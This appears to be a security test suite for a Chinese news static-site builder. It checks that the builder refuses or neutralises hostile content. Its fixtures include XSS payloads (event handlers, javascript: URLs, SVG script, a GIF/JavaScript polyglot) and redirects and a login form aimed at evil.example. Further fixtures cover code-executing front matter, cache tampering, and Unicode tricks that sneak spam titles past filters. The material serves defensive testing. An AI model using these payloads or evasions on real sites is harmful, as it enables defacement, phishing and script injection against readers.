// Every case of issue 10 ("Trust by construction"), each its own test: refused with the exact
// file, the line of the offending text and a message saying what is wrong, or built and
// published; and whatever was published is loaded in Chromium with its CSP meta tag removed,
// where nothing may run, navigate or ask another host for anything. Cases share a few sites
// (a build costs seconds); a refused case is taken out and the rest built again, so that what
// the build let through is still loaded and judged.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deserialize, serialize } from "node:v8";
import type { Browser } from "playwright-core";
import { buildPruning, buildErrors, launchAttackBrowser, loadPages, PNG_1X1, type BuildError, type Finding, type PrunedBuild } from "./helpers/attack-harness.ts";
import { makeSite, readTree, runTool, buildSiteInProcess, runBuildCli, type Files, type RunResult } from "./helpers/site-fixture.ts";

let browser: Browser;
before(async () => {
  browser = await launchAttackBrowser();
});
after(async () => {
  await browser?.close();
});

const DIR = "content/news/media-focus/2024";
const articleUrls = (slug: string) => ["zh-hans", "zh-hant"].map((s) => `/${s}/news/media-focus/2024/10/${slug}/`);
const pageUrls = (slug: string) => ["zh-hans", "zh-hant"].map((s) => `/${s}/${slug}/`);

/** An article as an editor writes it; `title` and extra lines are raw YAML (quote them yourself). */
function md(title: string, body: string, lang = "zh-Hans", extra: string[] = []): string {
  return ["---", `title: ${title}`, "date: 2024-10-16 09:57", "source: 重慶日報", "editor: 譚鑫", `lang: ${lang}`, ...extra, "---", "", body, ""].join("\n");
}

/** The 1-based line of the first line of `text` holding `needle`. */
function lineOf(text: string, needle: string): number {
  const i = text.split("\n").findIndex((l) => l.includes(needle));
  assert.ok(i >= 0, `fixture: ${JSON.stringify(needle)} is in the file`);
  return i + 1;
}

const q = (s: string) => JSON.stringify(s);

// Tiny media with valid magic bytes: an MP4 whose first box is `ftyp`, an Ogg page header.
const MP4 = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypisom"), Buffer.from([0, 0, 2, 0]), Buffer.from("isomiso2"), Buffer.from([0, 0, 0, 8]), Buffer.from("free")]);
const OGG = Buffer.concat([Buffer.from("OggS"), Buffer.from([0, 2]), Buffer.alloc(8), Buffer.from([1, 0, 0, 0]), Buffer.alloc(4), Buffer.alloc(4), Buffer.from([1, 30]), Buffer.from("\x01vorbis"), Buffer.alloc(23)]);
const SVG_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>`;
const POLYGLOT = "GIF89a=1;alert(1);//";

// ---------------------------------------------------------------------------------------------
// Cases

interface Case {
  name: string;
  /** The file the case is in, relative to the site root. */
  file: string;
  content: string;
  /** Text on the offending line (its line is the one the error must name); none: the file alone. */
  needle?: string;
  /** What the message must say. */
  message: RegExp;
  /** Pages of the case, loaded when it was published. */
  urls: string[];
}

const SPAM_MESSAGE = /spam|block|gambl|porn|博彩|赌|賭|色情|hijack|垃圾/i;

// A hijack-style title (issue 10), and the same markers hidden by every evasion the issue lists.
const HIJACK = "国产精品久久久久…_五月婷婷俺来也_国产一级在线免费观看";
const BASE = "博彩官网_澳门赌场_送彩金";
// Evasions inside each marker, not around the "_" between them (titles stay under 60 characters).
const between = (s: string, sep: string) => s.split("_").map((w) => [...w].join(sep)).join("_");
const everyOther = (s: string, f: (c: string) => string) => s.split("_").map((w) => [...w].map((c, i) => (i % 2 === 1 ? f(c) : c)).join("")).join("_");
const yamlEscapes = [...BASE].map((c) => (c === "_" ? c : `\\u${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}`)).join("");

const spamTitles: { name: string; yaml: string; lang?: string; shown: string }[] = [
  { name: "the hijack title", yaml: q(HIJACK), shown: HIJACK },
  { name: "YAML \\u escapes (\\u535A\\u5F69…)", yaml: `"${yamlEscapes}"`, shown: BASE },
  { name: "HTML character references (博&#24425;)", yaml: q(everyOther(BASE, (c) => `&#${c.codePointAt(0)};`)), shown: BASE },
  { name: "markup between characters (博<b>彩</b>)", yaml: q(everyOther(BASE, (c) => `<b>${c}</b>`)), shown: BASE },
  { name: "editor markup between characters (博-{}-彩)", yaml: q(between(BASE, "-{}-")), shown: BASE },
  { name: "U+034F COMBINING GRAPHEME JOINER between characters", yaml: q(between(BASE, "\u034F")), shown: BASE },
  { name: "U+2061 FUNCTION APPLICATION between characters", yaml: q(between(BASE, "\u2061")), shown: BASE },
  { name: "U+180E MONGOLIAN VOWEL SEPARATOR between characters", yaml: q(between(BASE, "\u180E")), shown: BASE },
  { name: "U+3164 HANGUL FILLER between characters", yaml: q(between(BASE, "\u3164")), shown: BASE },
  { name: "U+2800 BRAILLE PATTERN BLANK between characters", yaml: q(between(BASE, "\u2800")), shown: BASE },
  { name: "tag characters (U+E0020…) between characters", yaml: q(between(BASE, "\u{E0020}\u{E0041}")), shown: BASE },
  { name: "Kangxi radical ⾊ for 色 (⾊情)", yaml: q("⾊情视频_免费⾊情电影_⾊情网站在线观看"), shown: "⾊情视频" },
  { name: "fullwidth Latin (ｃａｓｉｎｏ)", yaml: q("ｃａｓｉｎｏ ｏｎｌｉｎｅ_ｂａｃｃａｒａｔ_ｃａｓｉｎｏ ｂｏｎｕｓ"), shown: "ｃａｓｉｎｏ" },
  { name: "Cyrillic look-alikes (саsino)", yaml: q("саsino online_bассаrat_саsino bonus"), shown: "саsino" },
  { name: "bidi overrides between characters (U+202D … U+202C)", yaml: q(between(BASE, "\u202D") + "\u202C"), shown: BASE },
  { name: "the other script: 博綵 (Traditional variant)", yaml: q("博綵官網_線上博綵開戶_註冊送綵金"), lang: "zh-Hant", shown: "博綵" },
  { name: "the other script: 約砲 (Traditional)", yaml: q("同城約砲_約砲交友_約砲網站"), lang: "zh-Hant", shown: "約砲" },
];

const refusedCases: Case[] = spamTitles.map((s, i) => {
  const slug = `title-${String(i).padStart(2, "0")}`;
  const content = md(s.yaml, "正文第一段。", s.lang ?? "zh-Hans", [`slug: ${slug}`]);
  return { name: `spam title refused: ${s.name}`, file: `${DIR}/${slug}.md`, content, needle: "title:", message: SPAM_MESSAGE, urls: articleUrls(slug) };
});

refusedCases.push({
  name: "spam in a standalone page (content/pages/) refused",
  file: "content/pages/about-us.md",
  content: ["---", `title: ${q(HIJACK)}`, "lang: zh-Hans", "---", "", "本站简介。", ""].join("\n"),
  needle: "title:",
  message: SPAM_MESSAGE,
  urls: pageUrls("about-us"),
});

const rawHtml: { name: string; html: string; needle: string; message: RegExp }[] = [
  {
    name: "<details open ontoggle=alert(1) left unclosed before a blank line",
    html: "<details open ontoggle=alert(1)\n\n後面的一段正文。",
    needle: "<details",
    message: /ontoggle|event handler|on\*|unclosed|details/i,
  },
  {
    name: "CDATA hiding a meta refresh",
    html: '<![CDATA[><meta http-equiv="refresh" content="0;url=https://casino.example/">]]>',
    needle: "CDATA",
    message: /CDATA|meta|refresh/i,
  },
  {
    name: "srcset with a remote second candidate",
    html: '<img src="./p.png" srcset="./p.png 1x, https://evil.example/2x.png 2x" alt="圖">',
    needle: "srcset",
    message: /srcset|another host|other host|remote|evil\.example/i,
  },
  { name: "single-quoted onerror (<img src='x' onerror='alert(1)'>)", html: "<img src='x' onerror='alert(1)'>", needle: "onerror", message: /onerror|event handler/i },
  { name: "single-quoted javascript: URL (<a href='javascript:alert(1)'>)", html: "<a href='javascript:alert(1)'>連結</a>", needle: "javascript:", message: /javascript:/i },
  { name: "<meta> (a refresh to a gambling site)", html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', needle: "<meta", message: /meta/i },
  { name: "<base>", html: '<base href="https://evil.example/">', needle: "<base", message: /base/i },
  { name: "<form>", html: '<form action="https://evil.example/login"><input name="u"><button>登入</button></form>', needle: "<form", message: /form/i },
  { name: "<object>", html: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>', needle: "<object", message: /object/i },
  { name: "<embed>", html: '<embed src="https://evil.example/x.swf">', needle: "<embed", message: /embed/i },
  {
    name: "<iframe srcdoc> (on an allowed host)",
    html: '<iframe src="https://player.bilibili.com/player.html?bvid=1" srcdoc="<script>alert(1)</script>" title="影片"></iframe>',
    needle: "srcdoc",
    message: /srcdoc/i,
  },
  { name: "remote poster on a local video", html: '<video src="./clip.mp4" poster="https://evil.example/p.jpg" controls></video>', needle: "poster", message: /poster|another host|other host|remote|evil\.example/i },
  { name: "an SVG photo holding <script>", html: "![示意圖](./evil.svg)", needle: "evil.svg", message: /svg|script|image|photo/i },
];

rawHtml.forEach((c, i) => {
  const slug = `html-${String(i).padStart(2, "0")}`;
  const content = md(q(`原始HTML測試${i}`), `第一段正文。\n\n${c.html}\n\n最後一段。`, "zh-Hant", [`slug: ${slug}`]);
  refusedCases.push({ name: `raw HTML refused with its line: ${c.name}`, file: `${DIR}/${slug}.md`, content, needle: c.needle, message: c.message, urls: articleUrls(slug) });
});

const REFUSED_FILES: Files = { [`${DIR}/p.png`]: PNG_1X1, [`${DIR}/clip.mp4`]: MP4, [`${DIR}/evil.svg`]: SVG_SCRIPT };
for (const c of refusedCases) REFUSED_FILES[c.file] = c.content;

// Real news about gambling and pornography, and ordinary phrases in which a blocked term sits
// across a word boundary: all must build.
const news: { name: string; title: string; body: string; phrase: string }[] = [
  {
    name: "Macau gaming revenue",
    title: "澳门10月博彩毛收入同比增长15.6%",
    body: "澳门博彩监察协调局1日公布，10月份博彩毛收入为228.8亿澳门元，同比增长15.6%。今年首十个月累计博彩毛收入达1976亿澳门元。分析人士认为，国庆黄金周访澳旅客增加，带动中场业务回暖。",
    phrase: "博彩毛收入",
  },
  {
    name: "a police raid on an online gambling ring",
    title: "重庆警方捣毁一网络赌博团伙 抓获47人",
    body: "重庆警方近日破获一起利用境外服务器开设赌博网站的案件，捣毁一个网络赌博犯罪团伙，抓获犯罪嫌疑人47名，冻结涉案资金1.2亿元。警方提醒，网络赌博“十赌九骗”，市民切勿参与。",
    phrase: "网络赌博",
  },
  {
    name: "扫黄打非",
    title: "“扫黄打非·净网2024”专项行动启动",
    body: "全国“扫黄打非”办公室近日部署开展“净网2024”专项行动，重点整治网络淫秽色情信息、非法出版物和侵权盗版行为，各地将加大对网络平台的巡查力度。",
    phrase: "扫黄打非",
  },
  { name: "对口支援交流 (援交 across words)", title: "渝黔两地开展对口支援交流活动", body: "两地干部围绕产业协作开展对口支援交流，签署了十项合作协议。", phrase: "对口支援交流" },
  { name: "各地特色情况 (色情 across words)", title: "各地特色情况汇总发布", body: "报告汇总了各地特色情况，并提出了因地制宜发展特色产业的建议。", phrase: "各地特色情况" },
  { name: "七彩金光 (彩金 across words)", title: "两江新区灯光秀点亮七彩金光", body: "夜幕降临，江面上七彩金光交相辉映，吸引了大批市民驻足观赏。", phrase: "七彩金光" },
  { name: "葡京酒店", title: "澳门葡京酒店举办岭南文化展览", body: "展览在葡京酒店大堂举行，展出岭南书画作品八十余件。", phrase: "葡京酒店" },
  { name: "《007：大战皇家赌场》", title: "电影《007：大战皇家赌场》修复版重映", body: "经典影片《007：大战皇家赌场》4K修复版本月在重庆多家影院重映。", phrase: "《007：大战皇家赌场》" },
];

const newsCases = news.map((n, i) => {
  const slug = `news-${String(i).padStart(2, "0")}`;
  return { ...n, slug, file: `${DIR}/${slug}.md`, content: md(q(n.title), `${n.body}\n\n第二段：${n.phrase}。`, "zh-Hans", [`slug: ${slug}`]) };
});
const NEWS_FILES: Files = Object.fromEntries(newsCases.map((c) => [c.file, c.content]));

// ---------------------------------------------------------------------------------------------
// Sites, built once each on first use

const memo = <T>(f: () => T): (() => T) => {
  let v: T | undefined;
  let done = false;
  return () => {
    if (!done) {
      v = f();
      done = true;
    }
    return v as T;
  };
};

const SITE_DATA = { iframeHosts: ["player.bilibili.com"] };

const refusedSite = memo(() => buildPruning(makeSite(REFUSED_FILES, SITE_DATA), refusedCases.map((c) => c.file)));
const newsSite = memo(() => buildPruning(makeSite(NEWS_FILES, SITE_DATA), newsCases.map((c) => c.file)));

/** Chromium findings of the published pages of a site, loaded once per site. */
const loaded = new Map<PrunedBuild, Promise<Finding[]>>();
function findingsOf(site: PrunedBuild, paths: string[]): Promise<Finding[]> {
  let p = loaded.get(site);
  if (!p) {
    const all = [...new Set(paths)].filter((u) => existsSync(join(site.out, u, "index.html")));
    p = loadPages(browser, site.out, all, { tabs: 4 }).then((r) => r.findings);
    loaded.set(site, p);
  }
  return p;
}

const describeFindings = (fs: Finding[]) => fs.map((f) => `${f.url} ${f.kind}: ${f.detail.slice(0, 160)}`).join("\n");

function errorsText(site: PrunedBuild): string {
  return site.builds.map((b) => b.stderr.split("\n").filter((l) => l.trim()).slice(0, 40).join("\n")).join("\n--- next build ---\n");
}

/** Refused with the exact file, the line of `needle` and a message matching `message`; else, what the reader got. */
async function assertRefused(site: PrunedBuild, c: Case, allUrls: string[]): Promise<void> {
  const expectedLine = c.needle ? lineOf(c.content, c.needle) : undefined;
  const errors: BuildError[] = site.errorsByFile.get(c.file) ?? [];
  if (!site.refused.has(c.file)) {
    const findings = site.built ? (await findingsOf(site, allUrls)).filter((f) => c.urls.includes(f.url)) : [];
    const published = c.urls.filter((u) => existsSync(join(site.out, u, "index.html")));
    assert.fail(
      `${c.file} was not refused: the build ${site.built ? "published" : "did not finish, and did not name"} it.` +
        (published.length ? ` Published at ${published.join(", ")}; in Chromium without CSP: ${findings.length ? `\n${describeFindings(findings)}` : "nothing ran (but it reached readers)"}` : "") +
        `\nBuild output:\n${errorsText(site)}`,
    );
  }
  const exact = errors.filter((e) => (expectedLine === undefined || e.line === expectedLine) && c.message.test(e.message));
  assert.ok(exact.length > 0, `${c.file} was refused, but no error names line ${expectedLine} with a message matching ${c.message}:\n${errors.map((e) => e.text).join("\n")}`);
}

// ---------------------------------------------------------------------------------------------
// Refused cases

const refusedUrls = refusedCases.flatMap((c) => c.urls);
for (const c of refusedCases) {
  test(c.name, async () => {
    await assertRefused(await refusedSite(), c, refusedUrls);
  });
}

// ---------------------------------------------------------------------------------------------
// Real news builds

const newsUrls = newsCases.flatMap((c) => articleUrls(c.slug));
for (const c of newsCases) {
  test(`real news builds: ${c.name}`, async () => {
    const site = await newsSite();
    const errors = site.errorsByFile.get(c.file) ?? [];
    assert.deepEqual(errors.map((e) => e.text), [], `${c.file} (real news) was refused`);
    assert.ok(site.built, `the news site did not build:\n${errorsText(site)}`);
    const own = readFileSync(join(site.out, articleUrls(c.slug)[0], "index.html"), "utf8");
    assert.ok(own.includes(c.phrase), `the Simplified page shows ${c.phrase}`);
    assert.ok(existsSync(join(site.out, articleUrls(c.slug)[1], "index.html")), "the Traditional twin is published");
    const findings = (await findingsOf(site, newsUrls)).filter((f) => articleUrls(c.slug).includes(f.url));
    assert.deepEqual(findings, [], describeFindings(findings));
  });
}

// ---------------------------------------------------------------------------------------------
// Local video and audio are allowed

const mediaSite = memo(() => {
  const files: Files = {
    [`${DIR}/media/index.md`]: md(q("本地影音測試"), '第一段。\n\n<video src="./clip.mp4" controls></video>\n\n<audio src="./sound.ogg" controls></audio>\n\n最後一段。', "zh-Hant", ["slug: local-media"]),
    [`${DIR}/media/clip.mp4`]: MP4,
    [`${DIR}/media/sound.ogg`]: OGG,
  };
  return buildPruning(makeSite(files, SITE_DATA), [`${DIR}/media/index.md`]);
});

for (const [kind, ext] of [["video", "mp4"], ["audio", "ogg"]] as const) {
  test(`local <${kind}> is allowed and published`, async () => {
    const site = await mediaSite();
    assert.ok(site.built && !site.refused.has(`${DIR}/media/index.md`), `a local ${kind} was refused:\n${errorsText(site)}`);
    const html = readFileSync(join(site.out, articleUrls("local-media")[1], "index.html"), "utf8");
    const src = new RegExp(`<${kind}[^>]*\\ssrc="(/[^"]+\\.${ext})"`).exec(html)?.[1];
    assert.ok(src, `the page has a <${kind}> with a local src:\n${html.slice(html.indexOf("article-body"), html.indexOf("article-body") + 600)}`);
    assert.ok(existsSync(join(site.out, src)), `${src} is published`);
    const findings = await findingsOf(site, articleUrls("local-media"));
    assert.deepEqual(findings, [], describeFindings(findings));
  });
}

// ---------------------------------------------------------------------------------------------
// A GIF/JavaScript polyglot as a cover and as a photo

const POLYGLOT_FILES: Files = {
  [`${DIR}/cover/index.md`]: md(q("封面測試"), "第一段正文。", "zh-Hant", ["slug: polyglot-cover", "cover: ./evil.js"]),
  [`${DIR}/cover/evil.js`]: POLYGLOT,
  [`${DIR}/photo/index.md`]: md(q("圖片測試"), "第一段正文。\n\n![現場照片](./evil.js)\n\n最後一段。", "zh-Hant", ["slug: polyglot-photo"]),
  [`${DIR}/photo/evil.js`]: POLYGLOT,
};
const polyglotSite = memo(() => buildPruning(makeSite(POLYGLOT_FILES), [`${DIR}/cover/index.md`, `${DIR}/photo/index.md`]));

function filesUnder(dir: string): string[] {
  // No folder (no photo was published at all): no files.
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name));
}

for (const [what, dir, slug, needle] of [
  ["as cover: ./evil.js", "cover", "polyglot-cover", "cover:"],
  ["as a body photo", "photo", "polyglot-photo", "evil.js"],
] as const) {
  test(`polyglot evil.js (GIF89a=1;alert(1);//) ${what}: refused with its line, or published only re-encoded as an image`, async () => {
    const site = await polyglotSite();
    const file = `${DIR}/${dir}/index.md`;
    if (site.refused.has(file)) {
      const line = lineOf(String(POLYGLOT_FILES[file]), needle);
      const errors = site.errorsByFile.get(file) ?? [];
      assert.ok(errors.some((e) => e.line === line), `refused, but no error names ${file}:${line}:\n${errors.map((e) => e.text).join("\n")}`);
    } else {
      assert.ok(site.built, `the build failed without naming ${file}:\n${errorsText(site)}`);
      const html = readFileSync(join(site.out, articleUrls(slug)[1], "index.html"), "utf8");
      const refs = html.match(/[^\s"'>]*evil\.js[^\s"'<]*/g) ?? [];
      assert.deepEqual(refs, [], "the page references the polyglot as it was, not re-encoded as an image");
    }
    if (site.built) {
      const carriers = filesUnder(site.out).filter((f) => readFileSync(f).includes("alert(1)"));
      assert.deepEqual(carriers.map((f) => f.slice(site.out.length)), [], "no output file contains alert(1)");
      const scripts = filesUnder(join(site.out, "media")).filter((f) => !/\.(jpe?g|png|webp|avif|gif)$/i.test(f));
      assert.deepEqual(scripts.map((f) => f.slice(site.out.length)), [], "every published photo has an image extension");
      const findings = (await findingsOf(site, [...articleUrls("polyglot-cover"), ...articleUrls("polyglot-photo")])).filter((f) => articleUrls(slug).includes(f.url));
      assert.deepEqual(findings, [], describeFindings(findings));
    }
  });
}

// ---------------------------------------------------------------------------------------------
// Front matter is data: ---js, ---javascript, ---coffee are refused and never run

const engineRoot = mkdtempSync(join(tmpdir(), "attack-engines-"));
const ENGINES = ["js", "javascript", "coffee"] as const;
const sentinel = (engine: string) => join(engineRoot, `pwned-${engine}`);
const engineFile = (engine: string) => `${DIR}/engine-${engine}.md`;
function engineArticle(engine: string): string {
  const write = `require("fs").writeFileSync(${q(sentinel(engine))}, "x")`;
  if (engine === "coffee") {
    return ["---coffee", `title: (${write}; "前言測試")`, 'date: "2024-10-16 09:57"', 'source: "重慶日報"', 'editor: "譚鑫"', 'lang: "zh-Hant"', "---", "", "正文。", ""].join("\n");
  }
  return [`---${engine}`, "{", `  title: (${write}, "前言測試"),`, '  date: "2024-10-16 09:57",', '  source: "重慶日報",', '  editor: "譚鑫",', '  lang: "zh-Hant"', "}", "---", "", "正文。", ""].join("\n");
}
const engineSite = memo(async () => {
  const root = makeSite(Object.fromEntries(ENGINES.map((e) => [engineFile(e), engineArticle(e)])));
  const check = runTool("scripts/cli/check.ts", ["--root", root]);
  const afterCheck = new Map(ENGINES.map((e) => [e, existsSync(sentinel(e))]));
  const build = await buildSiteInProcess(root);
  return { root, check, build, afterCheck };
});

for (const engine of ENGINES) {
  test(`front matter ---${engine} is refused naming the file, by npm run build and npm run check, and never runs`, async () => {
    const s = await engineSite();
    const file = engineFile(engine);
    assert.equal(s.afterCheck.get(engine), false, `npm run check ran the ---${engine} front matter: ${sentinel(engine)} was written`);
    assert.equal(existsSync(sentinel(engine)), false, `npm run build ran the ---${engine} front matter: ${sentinel(engine)} was written`);
    for (const [tool, r] of [["check", s.check], ["build", s.build]] as [string, RunResult][]) {
      assert.notEqual(r.code, 0, `npm run ${tool} exits non-zero`);
      const named = buildErrors(r).filter((e) => e.file === file);
      assert.ok(named.length > 0, `npm run ${tool} names ${file}:\n${r.stderr.slice(0, 2000)}`);
      assert.ok(named.some((e) => /front matter|engine|javascript|\bjs\b|coffee|yaml/i.test(e.message)), `npm run ${tool} says what is wrong:\n${named.map((e) => e.text).join("\n")}`);
    }
  });
}

// ---------------------------------------------------------------------------------------------
// The glossary cannot rename the site

test('glossary {"澳门赌场官网": "嘉陵數智集團"} renaming the site is refused, naming content/_data/glossary.json', async () => {
  const files: Files = {
    "content/_data/glossary.json": JSON.stringify({ 澳门赌场官网: "嘉陵數智集團" }, null, 2),
    [`${DIR}/plain.md`]: md(q("嘉陵數智集團發布新平臺"), "嘉陵數智集團今日發布新平臺。", "zh-Hant", ["slug: plain"]),
  };
  const site = await buildPruning(makeSite(files, { name: "嘉陵數智集團" }), []);
  const errors = site.errorsByFile.get("content/_data/glossary.json") ?? [];
  if (site.built) {
    const home = readFileSync(join(site.out, "zh-hans/index.html"), "utf8");
    const renamed = home.includes("澳门赌场官网");
    const findings = await loadPages(browser, site.out, ["/zh-hans/", "/zh-hant/", ...articleUrls("plain")], { tabs: 2 }).then((r) => r.findings);
    assert.fail(`the build published the site${renamed ? " renamed 澳门赌场官网 on its Simplified pages" : ""}; Chromium: ${findings.length ? describeFindings(findings) : "nothing ran"}`);
  }
  assert.ok(errors.length > 0, `the build names content/_data/glossary.json:\n${errorsText(site)}`);
  assert.ok(errors.some((e) => /name|site|spam|block|澳门赌场官网|嘉陵數智集團/i.test(e.message)), `the message says what is wrong:\n${errors.map((e) => e.text).join("\n")}`);
});

// ---------------------------------------------------------------------------------------------
// Caches are not trusted

/** A zh-Hans article whose Traditional twin comes from the conversion cache. */
function cacheSite(): { root: string; file: string; urls: string[] } {
  const file = `${DIR}/cached.md`;
  const root = makeSite({ [file]: md(q("头发护理行业发展报告"), "报告显示，头发护理行业去年增长百分之十二。\n\n第二段正文，记录行业协会的年度统计数据。", "zh-Hans", ["slug: cached"]) });
  return { root, file, urls: articleUrls("cached") };
}

/** Replaces every cached value that holds `marker` with `payload`; returns how many. */
function tamperCache(root: string, marker: string, payload: (old: string) => string): number {
  const path = join(root, ".cache/conversions.bin");
  assert.ok(existsSync(path), ".cache/conversions.bin is written by the build");
  let n = 0;
  const walk = (v: unknown): unknown => {
    if (typeof v === "string") {
      if (!v.includes(marker)) return v;
      n++;
      return payload(v);
    }
    if (v instanceof Map) return new Map([...v].map(([k, x]) => [k, walk(x)]));
    return v;
  };
  writeFileSync(path, serialize(walk(deserialize(readFileSync(path)))));
  return n;
}

for (const [what, payload, needle] of [
  ["an event handler", (old: string) => (old.includes("<p>") ? old.replace("<p>", '<p><img src=x onerror=alert(1)>') : '<img src=x onerror=alert(1)>'), "onerror=alert(1)"],
  ["spam text", (old: string) => old.replace("頭髮", "澳門賭場線上開戶送彩金"), "澳門賭場線上開戶送彩金"],
] as const) {
  test(`a tampered .cache/conversions.bin value (${what}) is not published: the page equals the cold build's, or the build stops naming it`, async () => {
    const { root, file, urls } = cacheSite();
    const cold = await buildSiteInProcess(root);
    assert.equal(cold.code, 0, cold.stderr);
    const coldPages = urls.map((u) => readFileSync(join(root, "_site", u, "index.html")));
    const n = tamperCache(root, "頭髮", payload);
    assert.ok(n > 0, "the cache holds the converted text (頭髮) to tamper with");
    // A new process reads the tampered file (this one holds the cache it read in memory).
    const warm = runBuildCli(root);
    if (warm.code !== 0) {
      const named = buildErrors(warm).filter((e) => e.file === file || e.file === ".cache/conversions.bin" || e.text.includes(urls[1]));
      assert.ok(named.length > 0, `the build stopped without naming the page:\n${warm.stderr.slice(0, 2000)}`);
      return;
    }
    const warmPages = urls.map((u) => readFileSync(join(root, "_site", u, "index.html")));
    const leaked = filesUnder(join(root, "_site")).filter((f) => readFileSync(f).includes(needle));
    const findings = await loadPages(browser, join(root, "_site"), urls, { tabs: 2 }).then((r) => r.findings);
    assert.deepEqual(leaked.map((f) => f.slice(root.length)), [], `the cached ${what} was published`);
    assert.deepEqual(findings, [], describeFindings(findings));
    urls.forEach((u, i) => assert.ok(warmPages[i].equals(coldPages[i]), `${u} differs from the cold build's`));
  });
}

test("a page in _site edited together with _site/manifest.json (same size, hash updated) is rendered again by the next warm build", async () => {
  const { root, urls } = cacheSite();
  const out = join(root, "_site");
  assert.equal((await buildSiteInProcess(root)).code, 0);
  const page = join(out, urls[1], "index.html");
  const original = readFileSync(page, "utf8");
  // Same byte length: the reader sees an event handler where a paragraph of text was.
  const target = "<p>第二段正文，記錄行業協會的年度統計數據。</p>";
  assert.ok(original.includes(target), "the page holds its paragraph");
  const evil = "<img src=x onerror=alert(1)>";
  const padded = evil + " ".repeat(Buffer.byteLength(target) - Buffer.byteLength(evil));
  assert.equal(Buffer.byteLength(padded), Buffer.byteLength(target));
  const edited = original.replace(target, padded);
  writeFileSync(page, edited);
  const manifestPath = join(out, "manifest.json");
  if (existsSync(manifestPath)) {
    const { createHash } = await import("node:crypto");
    const hash = (s: string) => createHash("sha256").update(s).digest("hex");
    const manifest = readFileSync(manifestPath, "utf8");
    assert.ok(manifest.includes(hash(original)), "the manifest lists the page's hash");
    writeFileSync(manifestPath, manifest.replace(hash(original), hash(edited)));
  }
  const warm = await buildSiteInProcess(root);
  assert.equal(warm.code, 0, warm.stderr);
  const coldOut = join(mkdtempSync(join(tmpdir(), "attack-cold-")), "site");
  assert.equal((await buildSiteInProcess(root, coldOut)).code, 0);
  const a = readTree(out);
  const b = readTree(coldOut);
  const differ = [...new Set([...a.keys(), ...b.keys()])].filter((k) => !a.get(k)?.equals(b.get(k) ?? Buffer.alloc(0)) || !b.has(k));
  const findings = await loadPages(browser, out, urls, { tabs: 2 }).then((r) => r.findings);
  assert.deepEqual(findings, [], describeFindings(findings));
  assert.deepEqual(differ, [], "the warm build's output equals a cold build's");
});
